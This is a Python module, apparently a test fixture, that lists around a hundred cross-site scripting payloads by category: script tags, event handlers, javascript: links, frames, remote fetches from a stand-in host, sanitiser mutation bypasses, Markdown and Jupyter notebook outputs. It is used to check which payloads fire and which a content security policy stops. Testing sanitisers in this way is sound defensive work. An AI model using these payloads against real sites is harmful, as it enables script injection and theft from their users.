"""Texts that run something, or fetch it, where a page takes them for markup.

Each is of a known kind of cross-site scripting; `RUN` and `FETCH` are what tells that it worked.
"""

from __future__ import annotations

import base64
import json
from dataclasses import dataclass
from html import escape
from typing import Any

RUN = "console.log(/FIRED/)"
FOREIGN = "http://foreign.test/"
_B64 = base64.b64encode(f"<script>{RUN}</script>".encode()).decode()
_SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'></svg>"
_SVG_B64 = base64.b64encode(_SVG.encode()).decode()


@dataclass(frozen=True)
class Payload:
    """One text.

    Attributes:
        html: as it would stand in a page, for the control.
        text: as a stranger writes it, where that is another thing (Markdown).
        fires: whether it works in today's Chromium where nothing holds it back.
        policy_stops: whether a content security policy can stop it.
        mime: the MIME type under which a notebook shows it, beside the usual ones.
    """

    name: str
    html: str
    text: str = ""
    fires: bool = True
    policy_stops: bool = True
    mime: str = ""

    @property
    def written(self) -> str:
        return self.text or self.html


def _of(group: str, *bodies: str, **more: Any) -> list[Payload]:
    return [Payload(f"{group} {number}", body, **more) for number, body in enumerate(bodies, 1)]


def _rendered_markdown(text: str) -> str:
    """What a careless Markdown renderer makes of a text."""
    import mistune

    class Careless(mistune.HTMLRenderer):
        def link(self, text: str, url: str, title: str | None = None) -> str:
            return f'<a href="{url}" title="{title or ""}">{text}</a>'

    return str(mistune.create_markdown(renderer=Careless(escape=False))(text))


def _markdown(*texts: str) -> list[Payload]:
    return [
        Payload(f"markdown {number}", _rendered_markdown(text), text)
        for number, text in enumerate(texts, 1)
    ]


def _notebook(name: str, mime: str, data: str, html: str, **more: Any) -> Payload:
    return Payload(f"notebook {name}", html, data, mime=mime, **more)


_PLOTLY = {
    "data": [{"type": "scatter", "x": [1], "y": [2], "customdata": [f"<img src=x onerror={RUN}>"],
              "hovertemplate": f"<img src=x onerror={RUN}>%{{customdata}}",
              "text": [f"<a href='javascript:{RUN}'>t</a>"]}],
    "layout": {"title": {"text": f"<img src=x onerror={RUN}>"}},
}  # fmt: skip
_VEGA = {
    "$schema": "https://vega.github.io/schema/vega-lite/v5.json",
    "data": {"url": f"{FOREIGN}data.json"},
    "mark": {"type": "point", "tooltip": {"expr": "window.console.log('FIRED')"}},
    "transform": [{"calculate": f"constructor.constructor('{RUN}')()", "as": "x"}],
    "encoding": {"href": {"value": f"javascript:{RUN}"}},
}

PAYLOADS: tuple[Payload, ...] = (
    *[
        *_of(
            "script tag",
            f"<script>{RUN}</script>",
            f"<SCRIPT >{RUN}</SCRIPT\t>",
            f"<script/x>{RUN}</script>",
            f"<script type=module>{RUN}</script>",
            f"<script src='data:text/javascript,{RUN}'></script>",
            f"<script src={FOREIGN}a.js></script>",
            "<script src=//foreign.test/b.js></script>",
            f"<svg><script>{RUN}</script></svg>",
            f"<svg><script href='data:text/javascript,{RUN}'/></svg>",
            "<svg><script>console&#46;log(/FIRED/)</script></svg>",
            f"<math><mtext></mtext></math><script>{RUN}</script>",
            f"<script>eval(atob('{base64.b64encode(RUN.encode()).decode()}'))</script>",
            f"<script>new Function('{RUN}')()</script>",
            f"<script>import('data:text/javascript,{RUN}')</script>",
        ),
        *_of(
            "breakout",
            f"</title><script>{RUN}</script>",
            f"</textarea></style></noscript></template><script>{RUN}</script>",
            f"\"'><img src=x onerror={RUN}>",
            f"\" autofocus tabindex=0 onfocus={RUN} x=\"><b autofocus tabindex=0 "
            f"onfocus={RUN}>x</b>",
            f"--><script>{RUN}</script><!--",
            f"]]><script>{RUN}</script>",
            f"<!--><script>{RUN}</script>-->",
            f"<![CDATA[><script>{RUN}</script>]]>",
            f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUN}</x:script><scri"
            f"pt>{RUN}</script>",
        ),
        *_of(
            "event handler",
            f"<img src=x onerror={RUN}>",
            f"<img/src='x'/onerror={RUN}>",
            f"<IMG SRC=x oNeRrOr=\"{RUN}\">",
            "<img src=x onerror=&#99;onsole.log(/FIRED/)>",
            f"<svg onload={RUN}>",
            f"<svg/onload={RUN}//",
            f"<body onload={RUN}>",
            f"<input autofocus onfocus={RUN}>",
            f"<select autofocus onfocus={RUN}></select>",
            f"<textarea autofocus onfocus={RUN}></textarea>",
            f"<a id=x tabindex=1 onmouseover={RUN}>x</a>",
            f"<div onclick={RUN}>x</div>",
            f"<details open ontoggle={RUN}><summary>x</summary>y</details>",
            f"<video><source onerror={RUN}></video>",
            f"<video src=x onerror={RUN}></video>",
            f"<audio src=x onerror={RUN}></audio>",
            f"<object data=x onerror={RUN}></object>",
            f"<style>@keyframes k{{}}</style><b style='animation:k 0.01s' onanimatio"
            f"nstart={RUN}>x</b>",
            "<xss style='display:block;transition:outline 0.01s' id=z tabindex=1 on"
            f"focus={RUN}>x</xss>",
            f"<iframe onload={RUN}></iframe>",
            f"<link rel=stylesheet href='data:text/css,' onload={RUN}>",
            f"<button popovertarget=p>o</button><div id=p popover onbeforetoggle={RUN}>x</div>",
            f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
            f"<svg><set onbegin={RUN} attributeName=x to=1></svg>",
        ),
        *_of(
            "address",
            f"<a href='javascript:{RUN}'>x</a>",
            f"<a href='  JaVaScRiPt:{RUN}'>x</a>",
            f"<a href='java\tscript:{RUN}'>x</a>",
            f"<a href='java&#10;script:{RUN}'>x</a>",
            f"<a href='&#106;avascript:{RUN}'>x</a>",
            f"<a href='\x01javascript:{RUN}'>x</a>",
            f"<svg><a href='javascript:{RUN}'><text y=20>x</text></a></svg>",
            f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>",
            f"<svg><a><animate attributeName=href values=javascript:{RUN} begin=0s fill=freeze />"
            "<text y=20>x</text></a></svg>",
            f"<math><mrow href='javascript:{RUN}'>x</mrow></math><a href=javascript:{RUN}>y</a>",
            f"<form action='javascript:{RUN}'><button>x</button></form>",
            f"<form><button formaction='javascript:{RUN}'>x</button></form>",
            f"<form id=f></form><input type=submit form=f formaction='javascript:{RUN}'>",
            f"<map name=m><area shape=default href='javascript:{RUN}'></map>",
            f"<base href='javascript:/a/-{RUN}//'><a href='#'>x</a>"
            f"<a href='javascript:{RUN}'>y</a>",
        ),
        *_of(
            "frame",
            f"<iframe src='javascript:{RUN}'></iframe>",
            f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
            f"<iframe srcdoc='&lt;img src=x onerror={RUN}&gt;'></iframe>",
            f"<iframe src='data:text/html;base64,{_B64}'></iframe>",
            f"<iframe src={FOREIGN}frame.html></iframe>",
            f"<object data='data:text/html;base64,{_B64}'></object>",
            f"<embed src='data:text/html;base64,{_B64}'>",
            f"<object data='data:image/svg+xml;base64,{_SVG_B64}'></object>",
            f"<embed src='data:image/svg+xml;base64,{_SVG_B64}' type='image/svg+xml'>",
            f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></iframe><"
            "/foreignObject></svg>",
        ),
        *_of(
            "fetch",
            f"<img src={FOREIGN}pixel.png>",
            f"<img srcset='{FOREIGN}pixel2.png 1x'>",
            f"<style>@import '{FOREIGN}a.css';</style>",
            f"<style>main{{background:url({FOREIGN}b.png)}}</style><main>x</main>",
            f"<div style='background:url({FOREIGN}c.png)'>x</div>",
            f"<link rel=stylesheet href={FOREIGN}d.css>",
            f"<link rel=icon href={FOREIGN}e.ico><link rel=preload as=image href={FOREIGN}f.png>",
            f"<svg><image href={FOREIGN}g.png width=9 height=9 /></svg>",
            f"<svg width=9 height=9><rect width=9 height=9 style='fill:url({FOREIGN}"
            f"h.svg#x);mask:url({FOREIGN}i.svg#x)' /></svg>",
            f"<video autoplay src={FOREIGN}j.mp4></video>",
            f"<video poster={FOREIGN}k.png></video>",
            f"<audio autoplay src={FOREIGN}l.mp3></audio>",
            f"<object data={FOREIGN}m.html></object>",
            f"<embed src={FOREIGN}n.html>",
            f"<base href={FOREIGN}><img src=o.png>",
            f"<style>@font-face{{font-family:f;src:url({FOREIGN}p.woff)}}b"
            f"{{font-family:f}}</style><b>x</b>",
            f"<table background={FOREIGN}q.png><tr><td>x</table>",
            f"<input type=image src={FOREIGN}r.png>",
            f"<form action={FOREIGN}s><button>x</button></form>",
            f"<style>li{{list-style-image:url({FOREIGN}t.png)}}</style><ul><li>x</ul>",
        ),
        *_of(
            "navigation",
            f"<meta http-equiv=refresh content='0;url={FOREIGN}'>",
            policy_stops=False,
        ),
        *_of(
            "mutation",
            f"<svg></p><style><a id=\"</style><img src=x onerror={RUN}>\">",
            "<math><mtext><table><mglyph><style><!--</style>"
            f"<img title=\"--&gt;&lt;img src=x onerror={RUN}&gt;\">"
            f"<img src=x onerror={RUN}>",
            f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
            f"<listing>&lt;img src=x onerror={RUN}&gt;</listing><img src=x onerror={RUN}>",
            f"<template><script>{RUN}</script></template><template shadowrootmode=open>"
            f"<img src=x onerror={RUN}></template>",
            f"<div><template shadowrootmode=open><script>{RUN}</script></template></div>",
            f"<b is='x' id=y><svg><style>/*</style><img src=x onerror={RUN}>*/</style></svg></b>",
        ),
        *_of(
            "old browsers only",
            f"<img src='javascript:{RUN}'>",
            f"<marquee onstart={RUN}>x</marquee>",
            f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
            f"<div style='width:expression({RUN})'>x</div>",
            f"<a href='vbscript:{RUN}'>x</a>",
            f"<link rel=stylesheet href='javascript:{RUN}'>",
            f"<xml id=i><x><c><![CDATA[<img src=x onerror={RUN}>]]></c></x></xml>"
            "<span datasrc=#i></span>"
            .replace("<img", "&lt;img"),
            f"<table background='javascript:{RUN}'><tr><td>x</table>",
            "\x1b]8;;javascript:" + RUN + "\x07link\x1b]8;;\x07 \x1b[31mred\x1b[0m",
            "{{ constructor.constructor('" + RUN + "')() }} ${" + RUN + "} <%= 7*7 %> {% raw %}",
            f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
            fires=False,
        ),
        *_markdown(
            f"[x](javascript:{RUN})",
            f"[x](<javascript:{RUN}>)",
            f"![x]({FOREIGN}picture.png)",
            f"<javascript:{RUN}>\n\n<img src=x onerror={RUN}>",
            f"[x]: javascript:{RUN}\n\n[x]",
            f"[x](JaVaScRiPt:{RUN} \"t\")",
            f"<details open ontoggle={RUN}><summary>x</summary></details>",
            f"| a |\n|---|\n| <img src=x onerror={RUN}> |",
            f"# x <svg onload={RUN}>",
            f"![\" onerror=\"{RUN}]({FOREIGN}y.png)",
        ),
        _notebook("javascript", "application/javascript", RUN, f"<script>{RUN}</script>"),
        _notebook("html", "text/html", f"<p>x</p><script>{RUN}</script>",
                  f"<p>x</p><script>{RUN}</script>"),
        _notebook("svg", "image/svg+xml", _SVG, _SVG),
        _notebook("latex", "text/latex",
                  f"$\\href{{javascript:{RUN}}}{{x}}$<img src=x onerror={RUN}>",
                  f"$x$<img src=x onerror={RUN}>"),
        _notebook("markdown", "text/markdown", f"**x** <img src=x onerror={RUN}>",
                  f"<b>x</b> <img src=x onerror={RUN}>"),
        _notebook("widget", "application/vnd.jupyter.widget-view+json",
                  json.dumps({"model_id": f"</script><script>{RUN}</script>", "version_major": 2}),
                  "<script type='application/vnd.jupyter.widget-view+json'>"
                  f"</script><script>{RUN}</script>"),
        _notebook("plotly", "application/vnd.plotly.v1+json", json.dumps(_PLOTLY),
                  f"<div class=hover>{_PLOTLY['layout']['title']['text']}</div>"),
        _notebook("vega", "application/vnd.vegalite.v5+json", json.dumps(_VEGA),
                  f"<a href=\"javascript:{RUN}\">point</a>"),
        _notebook("bokeh", "application/vnd.bokehjs_exec.v0+json", RUN, f"<script>{RUN}</script>"),
        _notebook("iframe", "text/html",
                  f"<iframe srcdoc='{escape(f'<script>{RUN}</script>')}'></iframe>",
                  f"<iframe srcdoc='{escape(f'<script>{RUN}</script>')}'></iframe>"),
    ],
)  # fmt: skip
